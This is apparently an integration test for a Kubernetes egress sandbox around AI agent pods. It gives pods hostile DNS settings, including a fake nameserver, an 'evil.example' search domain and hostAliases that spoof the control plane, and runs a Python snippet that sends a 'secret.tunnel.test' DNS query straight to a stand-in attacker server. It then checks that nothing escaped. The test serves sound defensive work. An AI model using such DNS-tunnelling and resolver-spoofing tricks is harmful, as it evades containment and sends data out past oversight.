import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import {
  agentPod,
  CALLS,
  inAgent,
  inForce,
  leftFor,
  leftOutside,
  running,
  startVendor,
  type Vendor,
} from './agents.ts'
import { install } from './installation.ts'
import { apply } from './kubectl.ts'

const GATEWAY = 'authors'
const ALLOWED = 'downloads.vendor.test'
/** A DNS server of the author, of which every packet is recorded as having left. */
const HOSTILE = '198.51.100.53'
let vendor: Vendor

beforeAll(async () => {
  await install(inject('installation'))
  vendor = await startVendor(GATEWAY, { egress: { allowedHosts: [ALLOWED] } })
})
afterAll(async () => {
  await vendor?.[Symbol.asyncDispose]()
})

describe('DNS settings of a pod', () => {
  const SHAPES = {
    'dns-none': { dnsPolicy: 'None', dnsConfig: { nameservers: [HOSTILE], searches: ['evil.example'] } },
    'dns-added': { dnsConfig: { nameservers: [HOSTILE] } },
    'dns-default': { dnsPolicy: 'Default' },
    'dns-hosts': {
      hostAliases: [{ ip: '8.8.4.4', hostnames: [ALLOWED, 'chaperone-control-plane.chaperone-system.svc'] }],
    },
  }

  test('do not affect the proxy, and the agent’s questions end at the sidecar', async () => {
    const names = Object.keys(SHAPES)
    await apply(...Object.entries(SHAPES).map(([name, spec]) => agentPod(name, GATEWAY, { spec })))
    await running(...names)
    await inForce(GATEWAY)
    for (const name of names) {
      expect((await inAgent(name, CALLS.node('GET'))).stdout, name).toMatch(/^200/)
      await inAgent(name, ['curl', '-sSk', '-m', '4', `https://${ALLOWED}/x`])
      await inAgent(name, ['python3', '-c', askDirectly])
    }
    for (const name of names) expect((await leftOutside(name)) ?? [], name).toEqual([])
    expect((await leftFor([HOSTILE, '8.8.4.4'])) ?? []).toEqual([])
  })
})

/** Sends a query to a server of its own, over UDP and TCP. */
const askDirectly = `
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x06tunnel\\x04test\\x00\\x00\\x01\\x00\\x01'
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
  try:
    s = socket.socket(socket.AF_INET, kind); s.settimeout(2); s.connect(('${HOSTILE}', 53))
    s.sendall(q if kind == socket.SOCK_DGRAM else len(q).to_bytes(2, 'big') + q); print(s.recv(500))
  except Exception as e:
    print(e)
`
